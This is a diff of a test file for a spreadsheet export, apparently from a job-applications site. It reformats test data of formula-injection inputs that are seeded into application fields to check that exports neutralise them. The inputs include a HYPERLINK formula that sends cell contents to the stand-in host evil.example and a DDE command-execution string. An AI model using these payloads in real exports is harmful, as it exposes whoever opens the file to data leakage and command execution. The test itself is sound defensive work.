@@ -16,7 +16,12 @@ afterAll(() => site?.stop());
 
 const BEGINNINGS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
 const BODIES = [
-  ...['1+1', 'HYPERLINK("http://evil.example?"&A1,"Open")', "cmd|'/C calc'!A0", 'SUM(1;2)', ',"=1+1",', '\r\n=2+2'],
+  '1+1',
+  'HYPERLINK("http://evil.example?"&A1,"Open")',
+  "cmd|'/C calc'!A0",
+  'SUM(1;2)',
+  ',"=1+1",',
+  '\r\n=2+2',
 ];
 const FORMULAS = BEGINNINGS.flatMap((beginning) => BODIES.map((body) => beginning + body));
 /** Begins with what a spreadsheet reads as a formula, or as white space before one. */
@@ -40,8 +45,14 @@ test('no cell of an export begins like a formula, and nothing that was written i
   await addApplications(
     site.database.database,
     ...FORMULAS.map((formula, at) => ({
-      ...{ job_id: job, candidate_id: people[at] ?? '', full_name: formula, email: formula, location: formula },
-      ...{ phone: formula.slice(0, 20), skills: [formula, 'Sums'], cover_note: formula },
+      job_id: job,
+      candidate_id: people[at] ?? '',
+      full_name: formula,
+      email: formula,
+      location: formula,
+      phone: formula.slice(0, 20),
+      skills: [formula, 'Sums'],
+      cover_note: formula,
       ...(at === 0 && { cv_id }),
     })),
   );
@@ -80,6 +91,14 @@ test('what is harmless stays as it was written', async () => {
   });
   const [, cells] = parse(body.toString().slice(1));
   expect(cells?.slice(1)).toEqual([
-    ...['Sent', "Siân O'Brien", 'wren@mail.example', '0113 496 0100', '', 'Picking, Packing', cover_note, '', ''],
+    'Sent',
+    "Siân O'Brien",
+    'wren@mail.example',
+    '0113 496 0100',
+    '',
+    'Picking, Packing',
+    cover_note,
+    '',
+    '',
   ]);
 });
